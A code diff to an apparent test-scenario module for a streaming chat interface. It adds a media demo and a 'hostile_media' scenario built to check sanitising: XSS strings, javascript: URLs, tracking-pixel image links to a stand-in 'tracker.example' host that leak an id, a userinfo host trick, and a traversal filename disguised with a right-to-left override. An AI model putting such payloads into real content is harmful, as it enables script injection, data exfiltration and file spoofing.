@@ -12,7 +12,7 @@ import reflex_thinking as rt
 from reflex_thinking import ThinkingBlock, ThinkingStep
 from reflex_thinking import canonical as ev
 
-from . import blocks, wire
+from . import blocks, pictures, wire
 
 MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
 WORD_SECONDS = 0.02
@@ -326,8 +326,44 @@ async def brief() -> AsyncIterator[Any]:
     yield ev.Artifact(name="chips", data=["How long did it take?", "Who worked on it?"])
 
 
+async def media() -> AsyncIterator[Any]:
+    """A chart that comes into focus, a table to download, and what an assistant gave."""
+    async for piece in words("They ask when the trains are full. A chart says it best, and a table has the numbers."):
+        yield rt.reasoning(piece)
+    yield ev.AssistantCallStarted(call_id="media-1", assistant_id="counter", name="Counter", task="Count the trains")
+    await asyncio.sleep(TOOL_SECONDS)
+    table = rt.file(pictures.TABLE.encode(), name="trains-raw.csv", id="media-raw")
+    yield table.model_copy(update={"parent_id": "media-1"})
+    yield ev.AssistantResult(call_id="media-1", result="144 trains on a weekday.")
+    async for piece in words("Most trains run **around nine** and **around six**:"):
+        yield piece
+    for grain in (48, 16, 1):
+        image = rt.image(pictures.chart(grain), alt=pictures.ALT, id="media-chart")
+        part = image.part.model_copy(update={"partial": True if grain > 1 else None})
+        yield image.model_copy(update={"part": part})
+        await asyncio.sleep(TOOL_SECONDS)
+    async for piece in words("Here are the numbers."):
+        yield piece
+    yield rt.file(pictures.TABLE.encode(), name="trains.csv", id="media-table")
+
+
+async def hostile_media() -> AsyncIterator[Any]:
+    """Images and files that would like to be more than that."""
+    yield f"![a chart](https://tracker.example/pixel.gif?leak={blocks.HOSTILE.id}) ![x](javascript:window.pwned=1)"
+    yield rt.image(pictures.DRAWING.encode(), media_type="image/png", alt=MARKUP, id="hostile-svg")
+    yield rt.image(url="https://tracker.example/pixel.gif?leak=1", alt=f"A chart {MARKUP}", id="hostile-remote")
+    yield rt.image(url="https://app.example@tracker.example/pixel.gif", alt="Two hosts", id="hostile-userinfo")
+    yield rt.file(
+        pictures.DRAWING.encode(), name="../../report\u202efdp.html", media_type="text/html", id="hostile-html"
+    )
+    yield ev.PartAdded(part=rt.FilePart(id="hostile-link", url="javascript:window.pwned=1", name=MARKUP))
+    yield ev.PartAdded(part=rt.ImagePart(id="hostile-data", data="not base64!", media_type="image/png", alt="Broken"))
+
+
 SCENARIOS = {
     "brief": brief,
+    "media": media,
+    "hostile-media": hostile_media,
     "plain": plain,
     "essay": essay,
     "agent": agent,
@@ -380,7 +416,8 @@ def trace_of(event: Any) -> str:
     if isinstance(event, str):
         return event
     text = getattr(event, "text_delta", None) or getattr(event, "text", None)
-    return text or f"\n{event.type} {getattr(event, 'call_id', '')} {getattr(event, 'progress', '')}\n"
+    step = getattr(event, "call_id", "") or getattr(getattr(event, "part", None), "id", "")
+    return text or f"\n{event.type} {step} {getattr(event, 'progress', '')}\n"
 
 
 async def hold(recent: str) -> None:
